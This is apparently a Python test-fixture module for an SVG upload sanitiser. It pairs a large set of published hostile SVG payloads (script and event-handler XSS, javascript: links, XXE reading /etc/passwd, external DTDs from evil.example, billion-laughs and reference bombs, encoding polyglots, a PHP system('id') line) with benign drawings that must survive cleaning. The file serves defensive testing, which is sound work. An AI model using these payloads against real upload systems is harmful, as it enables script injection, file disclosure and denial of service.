"""Hostile pictures and their benign twins (SECURITY T11, T12).

`HOSTILE` are the tricks that are published for SVG uploads; each must be refused or come out harmless.
`BENIGN` are what drawing programs write; each must be taken and still show something.
"""

# ruff: noqa: E501 - a trick is shown in one piece

from base64 import b64encode

SVG = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
BOX = 'viewBox="0 0 10 10"'


def svg(inside: str, attributes: str = "") -> bytes:
    return f"<svg {SVG} {XLINK} {BOX} {attributes}>{inside}</svg>".encode()


def nested(depth: int) -> bytes:
    return svg("<g>" * depth + '<path d="M0 0"/>' + "</g>" * depth)


def use_bomb(levels: int, fan: int) -> bytes:
    rows = ['<g id="a0"><rect width="1" height="1"/></g>']
    for level in range(1, levels + 1):
        uses = f'<use href="#a{level - 1}"/>' * fan
        rows.append(f'<g id="a{level}">{uses}</g>')
    return svg(f'<defs>{"".join(rows)}</defs><use href="#a{levels}"/>')


def pattern_bomb(levels: int) -> bytes:
    rows = ['<pattern id="p0" width="1" height="1"><rect width="1" height="1"/></pattern>']
    for level in range(1, levels):
        fills = f'<rect width="1" height="1" fill="url(#p{level - 1})"/>' * 8
        rows.append(f'<pattern id="p{level}" width="1" height="1">{fills}</pattern>')
    return svg(f'<defs>{"".join(rows)}</defs><rect width="9" height="9" fill="url(#p{levels - 1})"/>')


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + f"]><svg {SVG} {BOX}><text>&j;</text></svg>"
).encode()
QUADRATIC = f'<!DOCTYPE svg [<!ENTITY a "{"x" * 50_000}">]><svg {SVG} {BOX}><text>{"&a;" * 1_000}</text></svg>'.encode()
EVIL = "https://evil.example"
PNG = "data:image/png;base64," + b64encode(b"\x89PNG\r\n").decode()
INNER = "data:image/svg+xml;base64," + b64encode(svg("<script>alert(1)</script>")).decode()

HOSTILE: dict[str, bytes] = {
    "script": svg("<script>alert(1)</script>"),
    "script_cdata": svg("<script><![CDATA[alert(1)]]></script>"),
    "script_href": svg(f'<script href="{EVIL}/x.js"/>'),
    "script_xlink": svg(f'<script xlink:href="{EVIL}/x.js"/>'),
    "script_prefixed": f'<s:svg xmlns:s="http://www.w3.org/2000/svg" {BOX}><s:script>alert(1)</s:script></s:svg>'.encode(),
    "script_xhtml": svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "script_unwrapped": svg("<switch><a><script>alert(1)</script></a></switch>"),
    "script_upper_case": svg("<SCRIPT>alert(1)</SCRIPT>"),
    "script_in_title": svg("<title><script>alert(1)</script></title>"),
    "script_in_text": svg("<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>"),
    "onload": svg("", 'onload="alert(1)"'),
    "onclick": svg('<rect width="9" height="9" onclick="alert(1)"/>'),
    "onbegin": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "onload_odd_case": svg("", 'onLoad="alert(1)"'),
    "handler_element": svg(
        '<handler type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'
    ),
    "foreign_object": svg(
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'
    ),
    "foreign_body": svg(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>'
    ),
    "iframe": svg(f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}"/>'),
    "embed": svg(f'<embed xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}"/>'),
    "link_javascript": svg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    "link_javascript_spaced": svg('<a href=" java&#x9;script:alert(1)"><rect width="9" height="9"/></a>'),
    "link_data": svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><rect width="9" height="9"/></a>'),
    "use_external": svg(f'<use href="{EVIL}/x.svg#a"/>'),
    "use_data": svg(f'<use href="{INNER}#a"/>'),
    "use_rooted": svg('<use href="/admin/#a"/>'),
    "use_relative": svg('<use xlink:href="other.svg#a"/>'),
    "use_both_hrefs": svg(f'<g id="a"/><use href="#a" xlink:href="{EVIL}/x.svg#a"/>'),
    "image_external": svg(f'<image href="{EVIL}/x.png" width="9" height="9"/>'),
    "image_data_svg": svg(f'<image href="{INNER}" width="9" height="9"/>'),
    "image_data_png": svg(f'<image href="{PNG}" width="9" height="9"/>'),
    "fe_image": svg(
        f'<filter id="f"><feImage href="{EVIL}/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'
    ),
    "style_import": svg(f'<style>@import "{EVIL}/x.css";</style>'),
    "style_font_face": svg(f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}</style>"),
    "style_image_set": svg(f'<style>rect{{fill:image-set("{EVIL}/x.png" 1x)}}</style>'),
    "style_escaped_url": svg(f'<rect style="fill:u\\72l({EVIL}/x#a)" width="9" height="9"/>'),
    "style_url": svg(f'<rect style="fill:url({EVIL}/x#a)" width="9" height="9"/>'),
    "style_expression": svg('<rect style="width:expression(alert(1))" width="9" height="9"/>'),
    "style_comment": svg(f'<rect style="fill:ur/**/l({EVIL}/x)" width="9" height="9"/>'),
    "style_behavior": svg(f'<rect style="-moz-binding:url({EVIL}/x.xml#a)" width="9" height="9"/>'),
    "fill_url_external": svg(f'<rect fill="url({EVIL}/x.svg#a)" width="9" height="9"/>'),
    "fill_url_quoted": svg(f'<rect fill="url(\'{EVIL}/x.svg#a\')" width="9" height="9"/>'),
    "fill_url_two": svg(f'<rect fill="url(#a) url({EVIL})" width="9" height="9"/>'),
    "filter_url": svg(f'<rect filter="url({EVIL}/x#f)" width="9" height="9"/>'),
    "mask_url": svg('<rect mask="url(//evil.example/x#m)" width="9" height="9"/>'),
    "cursor_url": svg(f'<rect cursor="url({EVIL}/x.cur)" width="9" height="9"/>'),
    "animate_href": svg(
        '<a id="x"><animate attributeName="href" to="javascript:alert(1)"/><rect width="9" height="9"/></a>'
    ),
    "set_href": svg('<a><set attributeName="href" to="javascript:alert(1)"/><rect width="9" height="9"/></a>'),
    "animate_motion": svg('<animateMotion path="M0 0"/>'),
    "set_onload": svg('<set attributeName="onmouseover" to="alert(1)"/>'),
    "stylesheet_instruction": f'<?xml-stylesheet href="{EVIL}/x.css"?>'.encode() + svg(""),
    "xsl_instruction": b'<?xml-stylesheet type="text/xsl" href="#x"?>' + svg(""),
    "php_instruction": svg("<?php system('id') ?>"),
    "xxe_file": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {SVG} {BOX}><text>&x;</text></svg>'.encode(),
    "xxe_parameter": f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{EVIL}/x.dtd">%p;]><svg {SVG} {BOX}/>'.encode(),
    "external_dtd": f'<!DOCTYPE svg SYSTEM "{EVIL}/x.dtd"><svg {SVG} {BOX}/>'.encode(),
    "attlist_default": f'<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "alert(1)">]><svg {SVG} {BOX}><rect/></svg>'.encode(),
    "public_doctype": f'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg {SVG} {BOX}/>'.encode(),
    "undeclared_entity": svg("<text>&nbsp;</text>"),
    "billion_laughs": LAUGHS,
    "quadratic_entity": QUADRATIC[:99_000],
    "utf16": svg("<script>alert(1)</script>").decode().encode("utf-16"),
    "utf16_declared": '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16") + svg("").decode().encode("utf-16-le"),
    "utf7_declared": b'<?xml version="1.0" encoding="UTF-7"?>' + svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "latin1_declared": b'<?xml version="1.0" encoding="ISO-8859-1"?>' + svg(""),
    "ebcdic_declared": b'<?xml version="1.0" encoding="cp037"?>' + svg(""),
    "svgz": b"\x1f\x8b\x08\x00" + b"\x00" * 20,
    "html_polyglot": b"<html><body><script>alert(1)</script>" + svg("") + b"</body></html>",
    "html_comment_polyglot": b"<!--><script>alert(1)</script>-->" + svg(""),
    "comment_script": svg("<!-- --><!--<script>alert(1)</script>-->"),
    "trailing_html": svg("") + b"<script>alert(1)</script>",
    "unclosed": f"<svg {SVG} {BOX}><g>".encode(),
    "not_svg_namespace": f'<svg xmlns="http://www.w3.org/1999/xhtml" {BOX}><script>alert(1)</script></svg>'.encode(),
    "no_size": f"<svg {SVG}><rect/></svg>".encode(),
    "zero_size": f'<svg {SVG} viewBox="0 0 0 0"/>'.encode(),
    "endless_size": f'<svg {SVG} viewBox="0 0 1e308 1e308"/>'.encode(),
    "nan_size": f'<svg {SVG} viewBox="0 0 nan nan"/>'.encode(),
    "deep": nested(33),
    "very_deep": nested(5_000),
    "many_elements": svg("<path/>" * 2_001),
    "too_large": svg(f'<path d="{"M0 0" * 30_000}"/>'),
    "long_attribute": svg(f'<path d="{"M0 0" * 16_000}"/>'),
    "use_itself": svg('<g id="a"><use href="#a"/></g>'),
    "use_in_a_circle": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "use_bomb": use_bomb(9, 10),
    "pattern_bomb": pattern_bomb(9),
    "nul": svg("<text>\x00</text>"),
    "control_character": svg("<text>\x08</text>"),
    "empty": b"",
    "spaces": b"  \n ",
    "png": b"\x89PNG\r\n\x1a\n\x00",
    "id_with_markup": svg('<rect id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" width="9" height="9"/>'),
    "clobbering_name": svg('<rect name="cookie" width="9" height="9"/>'),
    "base_attribute": svg(f'<g xml:base="{EVIL}/"><use href="#a"/></g>'),
    "audio": svg(f'<audio xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/x.mp3" autoplay=""/>'),
    "discard": svg('<discard begin="0s"/>'),
    "metadata_rdf": svg('<metadata><r:RDF xmlns:r="urn:r"><r:li resource="javascript:alert(1)"/></r:RDF></metadata>'),
}

# These must not come out at all; every other one of HOSTILE may come out harmless.
REFUSED = {
    "stylesheet_instruction", "xsl_instruction", "php_instruction", "xxe_file", "xxe_parameter", "external_dtd",
    "attlist_default", "public_doctype", "undeclared_entity", "billion_laughs", "quadratic_entity", "utf16",
    "utf16_declared", "utf7_declared", "latin1_declared", "ebcdic_declared", "svgz", "html_polyglot",
    "trailing_html", "unclosed", "not_svg_namespace", "no_size", "zero_size",
    "endless_size", "nan_size", "deep", "very_deep", "many_elements", "too_large", "long_attribute",
    "use_itself", "use_in_a_circle", "use_bomb", "pattern_bomb", "nul", "control_character", "empty", "spaces",
    "png",
}  # fmt: skip

GRADIENT = (
    '<linearGradient id="g"><stop offset="0" stop-color="#0a0"/><stop offset="1" stop-color="#00a"/></linearGradient>'
)

# name → (picture, what the cleaned text must still contain)
BENIGN: dict[str, tuple[bytes, str]] = {
    "path": (svg('<path d="M1 1h8v8H1z" fill="#0b1630"/>'), 'd="M1 1h8v8H1z"'),
    "declared": (b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' + svg('<circle cx="5" cy="5" r="4"/>'), "circle"),
    "byte_order_mark": (b"\xef\xbb\xbf" + svg('<circle r="4"/>'), "circle"),
    "gradient": (svg(f'<defs>{GRADIENT}</defs><rect width="9" height="9" fill="url(#g)"/>'), 'fill="url(#g)"'),
    "gradient_quoted": (svg(f"<defs>{GRADIENT}</defs><rect width=\"9\" height=\"9\" fill=\"url('#g')\"/>"), "#g"),
    "symbol_and_use": (svg('<symbol id="s"><path d="M0 0h1"/></symbol><use xlink:href="#s" x="2"/>'), 'href="#s"'),
    "style_attribute": (svg('<rect style="fill:#fff;stroke-width:2px;opacity:.5" width="9" height="9"/>'), 'fill="#fff"'),
    "transform": (svg('<g transform="translate(1,2) rotate(-45 5 5) scale(.5)"><path d="M0 0h1"/></g>'), "rotate(-45 5 5)"),
    "clip_and_mask": (svg('<clipPath id="c"><rect width="5" height="5"/></clipPath><g clip-path="url(#c)"><path d="M0 0h1"/></g>'), "url(#c)"),
    "filter": (svg('<filter id="f"><feGaussianBlur in="SourceGraphic" stdDeviation="2"/></filter><rect filter="url(#f)" width="9" height="9"/>'), "feGaussianBlur"),
    "text": (svg('<text x="1" y="5" font-family="Arial, sans-serif" font-size="3">Acme &amp; Söhne</text>'), "Acme &amp; Söhne"),
    "title": (svg("<title>Acme logo</title><path d='M0 0h1'/>"), "Acme logo"),
    "size_only": (f'<svg {SVG} width="120px" height="40"><path d="M0 0h1"/></svg>'.encode(), 'viewBox="0 0 120 40"'),
    "no_namespace": (b'<svg viewBox="0 0 5 5"><path d="M0 0h1"/></svg>', SVG),
    "inkscape": (svg('<sodipodi:namedview xmlns:sodipodi="urn:s" id="v"/><g xmlns:i="urn:i" i:label="Layer 1" id="layer1"><path d="M0 0h1"/></g>'), 'id="layer1"'),
    "illustrator_switch": (svg('<switch><foreignObject width="1" height="1"/><g><path d="M0 0h1"/></g></switch>'), "M0 0h1"),
    "nested_svg": (svg('<svg x="1" y="1" width="5" height="5" viewBox="0 0 1 1"><path d="M0 0h1"/></svg>'), "M0 0h1"),
    "rgb": (svg('<rect fill="rgb(10, 20, 30)" width="9" height="9"/>'), "rgb(10, 20, 30)"),
    "comment": (svg("<!-- made by hand --><path d='M0 0h1'/>"), "M0 0h1"),
    "marker": (svg('<marker id="m" markerWidth="2" markerHeight="2" orient="auto"><path d="M0 0h1"/></marker><path d="M0 0h5" marker-end="url(#m)"/>'), "url(#m)"),
    "thirty_one_deep": (nested(30), "M0 0"),
    "large_but_allowed": (svg("<path d='M0 0h1'/>" * 1_900), "M0 0h1"),
    "some_reuse": (use_bomb(2, 5), 'href="#a2"'),
}  # fmt: skip
